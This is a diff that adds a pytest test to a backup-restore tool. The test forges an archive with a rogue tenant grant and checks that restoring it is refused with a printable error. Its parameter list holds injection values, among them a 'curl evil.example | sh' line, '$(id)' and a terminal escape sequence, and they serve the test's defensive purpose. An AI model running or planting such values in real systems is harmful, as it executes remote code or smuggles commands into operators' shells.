@@ -402,6 +402,29 @@ class TestRefused:
             put_back(place, tmp_path / "odd")
         assert str(refused.value).isprintable()
 
+    @pytest.mark.parametrize("role", ["x; curl evil.example | sh", "$(id)", "stax_owner", "\x1b[2J"])
+    def test_one_with_a_login_that_was_never_granted(
+        self, place: Settings, taken: Taken, tmp_path: Path, role: str
+    ) -> None:
+        """The way back names it in a command to type."""
+        with taken.path.open("rb") as file, written_whole(tmp_path / "forged") as writer:
+            reader = ArchiveReader(file, "forged")
+            reader.prove()
+            writer.head(reader.words)
+            [columns] = [table["columns"] for table in reader.words["tables"] if table["name"] == "tenant_grants"]
+            for member in reader.members():
+                data, count = member.content.read(), reader.rows.get(member.name, 0)
+                if member.name == "postgres/tenants.copy":
+                    tenant = data.split(b"\t")[0].decode()
+                if member.name == "postgres/tenant_grants.copy":
+                    row = {"role_name": role, "tenant_id": tenant, "granted_at": "2026-11-01 00:00:00+00"}
+                    data, count = "\t".join(row[name] for name in columns).encode() + b"\n", 1
+                if member.name.startswith("postgres/"):
+                    writer.add(member.name, io.BytesIO(data), count)
+        with pytest.raises(BackupRefused, match="was not made by stax: ") as refused:
+            put_back(place, tmp_path / "forged")
+        assert str(refused.value).isprintable()
+
     def test_an_object_where_the_lake_has_a_folder(self, place: Settings, taken: Taken) -> None:
         (Path(place.lake) / min(taken.raw)).mkdir(parents=True)
         with pytest.raises(BackupRefused, match="The lake holds another raw/"):
